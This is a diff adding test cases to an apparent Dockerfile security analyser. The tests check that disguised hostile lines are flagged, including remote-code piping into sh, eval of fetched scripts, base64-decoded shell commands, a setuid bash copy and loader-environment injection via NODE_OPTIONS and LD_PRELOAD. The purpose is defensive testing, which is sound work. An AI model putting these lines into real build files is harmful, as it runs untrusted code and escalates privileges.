@@ -111,3 +111,38 @@ describe('analyseDockerfile: only what changed, and never a throw', () => {
     assert.match(pipe.reason, /\\u\{1b\}/);
   });
 });
+
+describe('analyseDockerfile: shapes a hostile proposal uses to look harmless', () => {
+  it('runs of a download by path, through xargs, eval, base64 or a saved file are danger', () => {
+    for (const line of [
+      'RUN curl https://x | /bin/sh',
+      'RUN curl https://x | xargs sh -c',
+      'RUN eval "$(curl -s https://x)"',
+      'RUN echo aGk= | base64 -d | sh',
+      'RUN curl -o /tmp/i https://x && sh /tmp/i',
+      `RUN python3 -c "import urllib.request as u; exec(u.urlopen('https://x').read())"`,
+    ]) {
+      assert.ok(flagged(analyseDockerfile(add(line), LIVE)).includes('danger:pipe-to-shell'), line);
+    }
+  });
+
+  it('a USER from a variable, install -m 4755, NODE_OPTIONS and a built variable name are flagged', () => {
+    const cases: [string, string][] = [
+      ['ARG U=root\nUSER $U', 'danger:user-root'],
+      ['RUN install -m 4755 /bin/bash /x', 'danger:setuid'],
+      ['ENV NODE_OPTIONS="--require /tmp/x.js"', 'danger:loader-env'],
+      ['RUN echo x > /etc/ld.so.pre""load', 'danger:loader-env'],
+      ['ARG X=LD_PRE\nENV ${X}LOAD=/tmp/x.so', 'caution:computed-name'],
+    ];
+    for (const [lines, code] of cases)
+      assert.ok(flagged(analyseDockerfile(add(lines), LIVE)).includes(code), `${lines} → ${code}`);
+  });
+
+  it('a padded instruction is judged on its head, flagged, and does not stall', () => {
+    const padded = `RUN apt-get ${'install '.repeat(32_000)}`;
+    const started = Date.now();
+    const findings = flagged(analyseDockerfile(add(padded), LIVE));
+    assert.ok(Date.now() - started < 2_000, `took ${Date.now() - started} ms`);
+    assert.ok(findings.includes('danger:instruction-too-long'));
+  });
+});
